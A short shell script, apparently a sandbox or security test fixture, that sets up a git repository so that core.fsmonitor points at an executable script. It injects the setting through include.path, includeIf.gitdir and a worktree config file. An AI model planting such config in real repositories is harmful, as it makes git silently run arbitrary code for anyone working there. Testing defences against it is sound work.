git init
printf "[core]\n\tfsmonitor = /box/work/fake.sh\n" > evil
git config include.path /box/work/evil
git config includeIf.gitdir:/.path /box/work/evil
git config extensions.worktreeConfig true
cp evil .git/config.worktree
chmod +x fake.sh
